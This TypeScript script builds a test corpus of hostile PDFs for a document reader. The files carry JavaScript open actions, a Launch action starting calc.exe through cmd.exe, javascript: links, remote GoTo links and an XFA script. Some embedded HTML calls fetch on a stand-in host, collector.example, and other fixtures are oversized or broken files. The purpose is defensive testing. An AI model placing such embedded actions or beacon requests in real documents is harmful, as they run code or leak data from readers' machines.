/**
 * Writes test-corpus/pdf-hostile/: PDFs that try to do what a briefing must never do in the reader
 * (run scripts, launch programs, fetch, open attachments), PDFs that strain it (2,000 pages, the
 * largest page PDF allows, a 50-megapixel image), files that are not what their name says, and a
 * readout in two versions for re-anchoring. Run by hand (`npx tsx scripts/make-hostile-pdfs.ts`),
 * not by CI: the files are committed, so tests never need pdf-lib's writer or qpdf. The encrypted
 * fixture needs `qpdf` on the PATH. README.md in the folder says what each file is.
 *
 * Every fixture says what it is in its own text, so a screenshot or a search shows which file is open.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deflateSync } from 'node:zlib';
import {
  concatTransformationMatrix,
  drawObject,
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFFont,
  PDFName,
  PDFObject,
  PDFPage,
  PDFRef,
  PDFString,
  popGraphicsState,
  pushGraphicsState,
  rgb,
  StandardFonts,
} from 'pdf-lib';

/** What pdf-lib's `context.obj` takes (its own type is not exported): plain values become PDF objects, strings become names. */
type Literal = string | number | boolean | null | PDFObject | Literal[] | LiteralObject;
interface LiteralObject {
  [name: string]: Literal;
}

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
const OUT = join(ROOT, 'test-corpus', 'pdf-hostile');
const CORPUS = join(ROOT, '..', 'shared', 'corpus', 'pdf');
/** Fixed dates, so regenerating writes the same bytes (except the encrypted file, whose salt is random). */
const MADE = new Date('2026-01-15T09:00:00Z');
const LETTER: [number, number] = [612, 792];
const MARGIN = 72;

interface Doc {
  doc: PDFDocument;
  font: PDFFont;
  bold: PDFFont;
}

async function newDoc(title: string): Promise<Doc> {
  const doc = await PDFDocument.create();
  doc.setTitle(title);
  doc.setAuthor('Briefing Reader test corpus');
  doc.setCreator('scripts/make-hostile-pdfs.ts');
  doc.setProducer('pdf-lib 1.17.1');
  doc.setCreationDate(MADE);
  doc.setModificationDate(MADE);
  return { doc, font: await doc.embedFont(StandardFonts.Helvetica), bold: await doc.embedFont(StandardFonts.HelveticaBold) };
}

/** A page with a heading and paragraphs; returns the page and the y below the last line, for placing links. */
function textPage({ doc, font, bold }: Doc, heading: string, paragraphs: readonly string[], size: [number, number] = LETTER): { page: PDFPage; y: number } {
  const page = doc.addPage(size);
  const width = size[0] - 2 * MARGIN;
  let y = size[1] - MARGIN;
  page.drawText(heading, { x: MARGIN, y, size: 20, font: bold, maxWidth: width, lineHeight: 24 });
  y -= 24 * linesOf(heading, bold, 20, width) + 16;
  for (const paragraph of paragraphs) {
    page.drawText(paragraph, { x: MARGIN, y, size: 12, font, maxWidth: width, lineHeight: 16 });
    y -= 16 * linesOf(paragraph, font, 12, width) + 10;
  }
  return { page, y };
}

/** How many lines pdf-lib's word wrap gives a text (same rule: break at spaces when the next word would overflow). */
function linesOf(text: string, font: PDFFont, size: number, width: number): number {
  let lines = 1;
  let line = '';
  for (const word of text.split(' ')) {
    const candidate = line ? `${line} ${word}` : word;
    if (line && font.widthOfTextAtSize(candidate, size) > width) {
      lines += 1;
      line = word;
    } else line = candidate;
  }
  return lines;
}

/** Draws a link's label at y and adds a Link annotation over it carrying `action` (a low-level dictionary). */
function linkAt({ doc, font }: Doc, page: PDFPage, y: number, label: string, action: LiteralObject): PDFRef {
  page.drawText(label, { x: MARGIN, y, size: 12, font, color: rgb(0.05, 0.25, 0.75) });
  const width = font.widthOfTextAtSize(label, 12);
  const annotation = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [MARGIN, y - 3, MARGIN + width, y + 12], Border: [0, 0, 0], A: action });
  const ref = doc.context.register(annotation);
  addAnnotation(page, ref);
  return ref;
}

function addAnnotation(page: PDFPage, ref: PDFRef): void {
  const existing = page.node.lookupMaybe(PDFName.of('Annots'), PDFArray);
  if (existing) existing.push(ref);
  else page.node.set(PDFName.of('Annots'), page.doc.context.obj([ref]));
}

const text = (value: string) => PDFString.of(value);
const urlSpec = (url: string) => ({ Type: 'Filespec', FS: 'URL', F: text(url) });

/** `updateFieldAppearances: false` where pdf-lib would otherwise strip the XFA entry while saving. */
async function save(name: string, { doc }: Doc, options: { updateFieldAppearances?: boolean } = {}): Promise<void> {
  writeFileSync(join(OUT, name), await doc.save(options));
}

async function javascriptOnOpen(): Promise<void> {
  const d = await newDoc('Hostile fixture: JavaScript on open');
  const { page } = textPage(d, 'This PDF runs JavaScript on open', [
    'When a viewer opens this file, its OpenAction runs app.alert and then submits a form to https://collector.example/submit. ' +
      'A document-level script (the Names JavaScript tree) calls app.launchURL, and the page has an open action (AA /O) that runs more JavaScript.',
    'Briefing Reader must run none of it: no dialog, no request, no new window. You should only ever see this text.',
  ]);
  const { context, catalog } = d.doc;
  const submit = { Type: 'Action', S: 'SubmitForm', F: urlSpec('https://collector.example/submit'), Flags: 4 };
  catalog.set(
    PDFName.of('OpenAction'),
    context.obj({ Type: 'Action', S: 'JavaScript', JS: text('app.alert("This PDF ran JavaScript on open");'), Next: submit }),
  );
  const launchUrl = context.register(context.obj({ Type: 'Action', S: 'JavaScript', JS: text('app.launchURL("https://collector.example/names", true);') }));
  catalog.set(PDFName.of('Names'), context.obj({ JavaScript: { Names: [text('collect'), launchUrl] } }));
  page.node.set(PDFName.of('AA'), context.obj({ O: { Type: 'Action', S: 'JavaScript', JS: text('this.print(false);') } }));
  await save('javascript-open-action.pdf', d);
}

async function launchAction(): Promise<void> {
  const d = await newDoc('Hostile fixture: Launch action');
  const { page, y } = textPage(d, 'This PDF has a link that launches a program', [
    'The blue line below is a Link annotation whose action is Launch: it asks the viewer to start calc.exe (Windows: cmd.exe /c calc) in a new window.',
    'Briefing Reader must open nothing when it is clicked.',
  ]);
  linkAt(d, page, y - 10, 'Launch the calculator', {
    Type: 'Action',
    S: 'Launch',
    F: text('calc.exe'),
    Win: { F: text('cmd.exe'), P: text('/c calc'), O: text('open') },
    NewWindow: true,
  });
  await save('launch-action.pdf', d);
}

async function uriLinks(): Promise<void> {
  const d = await newDoc('Hostile fixture: URI links');
  const { page, y } = textPage(d, 'This PDF has three web links: https, http and javascript', [
    'Each blue line below is a Link annotation with a URI action. Under the app rule only the https one may be opened, and only after the link notice; ' +
      'the http one and the javascript: one must never be followed.',
  ]);
  linkAt(d, page, y - 10, 'Secure link: https://example.org/briefing', { Type: 'Action', S: 'URI', URI: text('https://example.org/briefing') });
  linkAt(d, page, y - 40, 'Plain link: http://example.org/insecure', { Type: 'Action', S: 'URI', URI: text('http://example.org/insecure') });
  linkAt(d, page, y - 70, 'Script link: javascript:alert(1)', { Type: 'Action', S: 'URI', URI: text('javascript:alert(document.domain)') });
  await save('uri-links.pdf', d);
}

async function remoteGoTo(): Promise<void> {
  const d = await newDoc('Hostile fixture: remote GoTo links');
  const { page, y } = textPage(d, 'This PDF links into other PDF files (GoToR)', [
    'The first blue line is a remote go-to action into a file next to this one (../secrets/other-briefing.pdf, page 1); ' +
      'the second into a PDF on the web (https://example.org/remote.pdf) by a URL file specification.',
    'Briefing Reader must open neither file and make no request.',
  ]);
  linkAt(d, page, y - 10, 'Go to page 1 of ../secrets/other-briefing.pdf', {
    Type: 'Action',
    S: 'GoToR',
    F: { Type: 'Filespec', F: text('../secrets/other-briefing.pdf') },
    D: [0, 'Fit'],
    NewWindow: true,
  });
  linkAt(d, page, y - 40, 'Go to page 1 of https://example.org/remote.pdf', {
    Type: 'Action',
    S: 'GoToR',
    F: urlSpec('https://example.org/remote.pdf'),
    D: [0, 'Fit'],
    NewWindow: true,
  });
  await save('remote-goto-links.pdf', d);
}

const XFA_PACKET = `<?xml version="1.0" encoding="UTF-8"?>
<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
  <template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
    <subform name="form1" layout="tb" locale="en_US">
      <pageSet><pageArea name="Page1"><contentArea x="0.25in" y="0.25in" w="8in" h="10.5in"/><medium stock="letter" short="8.5in" long="11in"/></pageArea></pageSet>
      <subform w="8in" h="10.5in">
        <field name="Name" x="1in" y="4in" w="4in" h="0.4in"><ui><textEdit/></ui><caption><value><text>Name</text></value></caption></field>
        <event activity="initialize"><script contentType="application/x-javascript">app.alert("XFA script ran"); xfa.host.gotoURL("https://collector.example/xfa");</script></event>
      </subform>
    </subform>
  </template>
  <xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><Name>XFA data</Name></form1></xfa:data></xfa:datasets>
</xdp:xdp>
`;

async function xfaForm(): Promise<void> {
  const d = await newDoc('Hostile fixture: XFA form');
  const { page } = textPage(d, 'This PDF carries an XFA form with a script', [
    'Its AcroForm has an /XFA entry: an XML form template whose initialize event runs app.alert and xfa.host.gotoURL. ' +
      'The page also has an ordinary AcroForm text field (below) for viewers that ignore XFA.',
    'Briefing Reader must not render the XFA form or run its script: this page, as drawn, is all there is.',
  ]);
  const form = d.doc.getForm();
  form.createTextField('Name').addToPage(page, { x: MARGIN, y: 420, width: 288, height: 24, font: d.font });
  form.updateFieldAppearances(d.font);
  const acroForm = d.doc.catalog.lookup(PDFName.of('AcroForm'), PDFDict);
  acroForm.set(PDFName.of('XFA'), d.doc.context.register(d.doc.context.flateStream(XFA_PACKET)));
  await save('xfa-form.pdf', d, { updateFieldAppearances: false });
}

async function embeddedFiles(): Promise<void> {
  const d = await newDoc('Hostile fixture: embedded files');
  const { page, y } = textPage(d, 'This PDF carries embedded files', [
    'Two files travel inside it: payload.html in the EmbeddedFiles name tree (an HTML page with a script and a remote image), ' +
      'and run-me.cmd in a FileAttachment annotation (the paperclip below). The catalog asks viewers to show the attachments panel.',
    'Briefing Reader must neither open nor save either file, and must make no request.',
  ]);
  const payload =
    '<!doctype html><title>payload</title><script>fetch("https://collector.example/embedded")</script><img src="https://collector.example/pixel.png">';
  await d.doc.attach(Buffer.from(payload), 'payload.html', {
    mimeType: 'text/html',
    description: 'An HTML page with a script',
    creationDate: MADE,
    modificationDate: MADE,
  });
  const { context, catalog } = d.doc;
  catalog.set(PDFName.of('PageMode'), PDFName.of('UseAttachments'));
  const command = context.flateStream('@echo off\r\necho This attachment should never run\r\n', { Type: 'EmbeddedFile', Subtype: PDFName.of('text/plain') });
  const spec = context.obj({
    Type: 'Filespec',
    F: text('run-me.cmd'),
    UF: text('run-me.cmd'),
    EF: { F: context.register(command) },
    Desc: text('A Windows command file'),
  });
  const icon = y - 40;
  d.doc.getPage(0).drawText('(attachment: run-me.cmd)', { x: MARGIN + 30, y: icon, size: 12, font: d.font });
  const annotation = context.obj({
    Type: 'Annot',
    Subtype: 'FileAttachment',
    Rect: [MARGIN, icon - 4, MARGIN + 20, icon + 20],
    FS: context.register(spec),
    Name: 'PushPin',
    Contents: text('run-me.cmd: a Windows command file'),
  });
  addAnnotation(page, context.register(annotation));
  await save('embedded-files.pdf', d);
}

async function internalLink(): Promise<void> {
  const d = await newDoc('Hostile fixture: internal link');
  const { page, y } = textPage(d, 'This PDF has a link to its own third page', [
    'The blue line below is a Link annotation with a GoTo action to page 3 (an explicit destination). It is the one kind of PDF link the reader follows by itself.',
  ]);
  textPage(d, 'Page 2 of the internal-link fixture', ['This page is skipped by the link: it is here so that the jump is visible.']);
  const target = textPage(d, 'Page 3: the internal link landed here', ['You arrived at page 3 of the internal-link fixture by its GoTo link.']);
  linkAt(d, page, y - 10, 'Jump to page 3', { Type: 'Action', S: 'GoTo', D: [target.page.ref, 'XYZ', null, null, null] });
  await save('internal-link.pdf', d);
}

async function encrypted(): Promise<void> {
  const d = await newDoc('Hostile fixture: password briefing');
  textPage(d, 'The locked briefing is open', [
    'This PDF is encrypted (AES-256) with the user password "briefing". If you can read this sentence, the right password was given.',
  ]);
  const plain = join(OUT, 'password-plain.tmp.pdf');
  await save('password-plain.tmp.pdf', d);
  execFileSync('qpdf', ['--encrypt', 'briefing', 'owner-of-the-briefing', '256', '--', plain, join(OUT, 'password-briefing.pdf')]);
  rmSync(plain);
}

async function twoThousandPages(): Promise<void> {
  const d = await newDoc('Hostile fixture: two thousand pages');
  for (let n = 1; n <= 2000; n += 1) {
    const page = d.doc.addPage(LETTER);
    page.drawText(`Page ${n} of 2000`, { x: MARGIN, y: 720, size: 20, font: d.bold });
    page.drawText(`This long test document has two thousand pages of plain text; this is page ${n}.`, { x: MARGIN, y: 690, size: 12, font: d.font });
  }
  await save('two-thousand-pages.pdf', d);
}

/** 14,400 pt is the largest page side PDF allows (ISO 32000-1, annex C: 200 inches). */
async function giantPage(): Promise<void> {
  const d = await newDoc('Hostile fixture: giant page');
  const side = 14400;
  const page = d.doc.addPage([side, side]);
  for (let at = 0; at <= side; at += 1440) {
    page.drawLine({ start: { x: at, y: 0 }, end: { x: at, y: side }, thickness: 8, color: rgb(0.7, 0.7, 0.8) });
    page.drawLine({ start: { x: 0, y: at }, end: { x: side, y: at }, thickness: 8, color: rgb(0.7, 0.7, 0.8) });
  }
  page.drawText('This page is 14,400 by 14,400 points', { x: 720, y: side - 1600, size: 480, font: d.bold });
  page.drawText('the largest page a PDF may have (200 inches square); the grid lines are 20 inches apart.', {
    x: 720,
    y: side - 2300,
    size: 240,
    font: d.font,
  });
  page.drawText('Bottom right corner of the giant page', { x: side - 5200, y: 400, size: 240, font: d.font });
  textPage(d, 'Page 2 of the giant-page fixture', ['An ordinary letter-size page after the giant one.']);
  await save('giant-page.pdf', d);
}

/** 10,000 x 5,000 RGB pixels in four flat bands: 150 MB decoded, a few hundred KB deflated. */
async function fiftyMegapixelImage(): Promise<void> {
  const d = await newDoc('Hostile fixture: 50-megapixel image');
  const [width, height] = [10000, 5000];
  const bands = [
    [0x1f, 0x4e, 0x79],
    [0xf2, 0xc1, 0x4e],
    [0x2e, 0x8b, 0x57],
    [0xc0, 0x39, 0x2b],
  ];
  const pixels = Buffer.alloc(width * height * 3);
  for (let row = 0; row < height; row += 1) {
    const [r, g, b] = bands[Math.floor((row * bands.length) / height)];
    const start = row * width * 3;
    for (let x = 0; x < width; x += 1) pixels.set([r, g, b], start + 3 * x);
  }
  const { context } = d.doc;
  const image = context.stream(deflateSync(pixels, { level: 9 }), {
    Type: 'XObject',
    Subtype: 'Image',
    Width: width,
    Height: height,
    ColorSpace: 'DeviceRGB',
    BitsPerComponent: 8,
    Filter: 'FlateDecode',
  });
  const { page, y } = textPage(
    d,
    'This page holds a 50-megapixel image',
    ['The picture below is 10,000 by 5,000 pixels (four flat colour bands), drawn 468 points wide.'],
    [612, 792],
  );
  const name = page.node.newXObject('Im', context.register(image));
  const drawWidth = 612 - 2 * MARGIN;
  page.pushOperators(
    pushGraphicsState(),
    concatTransformationMatrix(drawWidth, 0, 0, drawWidth / 2, MARGIN, y - 20 - drawWidth / 2),
    drawObject(name),
    popGraphicsState(),
  );
  await save('fifty-megapixel-image.pdf', d);
}

/**
 * The Kremlin address (21 pages, CC BY 4.0) cut after half its bytes, as a broken download: its
 * page tree and cross-reference stream are in the lost half, so nothing of it opens and it can only
 * be listed as damaged.
 */
function truncated(): void {
  const whole = readFileSync(join(CORPUS, '2022-02-21_kremlin_address-by-the-president-of-russia-en.pdf'));
  writeFileSync(join(OUT, 'truncated-half.pdf'), whole.subarray(0, Math.floor(whole.length / 2)));
}

/**
 * Ten pages written object by object (no object streams), then page 7's page dictionary overwritten
 * by a string padded to the same length, so every other object stays where the cross-reference table says:
 * pages 1-6 and 8-10 open, page 7 cannot.
 */
async function damagedPage(): Promise<void> {
  const d = await newDoc('Hostile fixture: damaged page 7');
  for (let n = 1; n <= 10; n += 1) {
    textPage(d, `Page ${n} of 10 of the damaged PDF`, [`Page 7 of this file is damaged beyond repair; every other page, like this page ${n}, is whole.`]);
  }
  const bytes = Buffer.from(await d.doc.save({ useObjectStreams: false }));
  const header = `${d.doc.getPage(6).ref.objectNumber} 0 obj\n`;
  const start = bytes.indexOf(`\n${header}`) + 1 + header.length;
  const end = bytes.indexOf('endobj', start);
  if (start <= header.length || end < start) throw new Error('damaged-page: page 7 dictionary not found');
  bytes.fill(' ', start, end);
  bytes.write('(lost)', start);
  writeFileSync(join(OUT, 'damaged-page-7.pdf'), bytes);
}

function notPdfs(): void {
  writeFileSync(join(OUT, 'zero-bytes.pdf'), '');
  writeFileSync(
    join(OUT, 'html-named-pdf.pdf'),
    '<!doctype html>\n<html><head><meta charset="utf-8"><title>Not a PDF</title></head>\n' +
      '<body><p>This is an HTML page saved with a .pdf name.</p>\n' +
      '<script>fetch("https://collector.example/html-named-pdf")</script><img src="https://collector.example/pixel.png"></body></html>\n',
  );
}

/** Shared by both versions of the readout, so everything but the two changes is byte-for-byte the same text. */
const READOUT_OPENING = 'National Security Advisor Jake Sullivan met today with the Foreign Secretary to discuss the response to the invasion of Ukraine.';
const READOUT_CLOSING = 'They agreed to stay in close contact in the days ahead and to keep coordinating with allies and partners.';

async function revisedReadout(): Promise<void> {
  const versions = [
    {
      file: 'readout-v1.pdf',
      middle: ['The two officials reviewed the sanctions already imposed and discussed further steps to raise the costs on the Kremlin.'],
    },
    {
      file: 'readout-v2.pdf',
      middle: [
        'The two officials reviewed the sanctions already imposed and discussed further measures to raise the costs on the Kremlin.',
        'They also welcomed the humanitarian corridors agreed for civilians leaving the besieged cities.',
      ],
    },
  ];
  for (const { file, middle } of versions) {
    const d = await newDoc('Readout of a meeting on sanctions (revised fixture)');
    textPage(d, 'Readout of a meeting on sanctions', [READOUT_OPENING, ...middle, READOUT_CLOSING]);
    await save(file, d);
  }
}

mkdirSync(OUT, { recursive: true });
await javascriptOnOpen();
await launchAction();
await uriLinks();
await remoteGoTo();
await xfaForm();
await embeddedFiles();
await internalLink();
await encrypted();
await twoThousandPages();
await giantPage();
await fiftyMegapixelImage();
truncated();
await damagedPage();
notPdfs();
await revisedReadout();
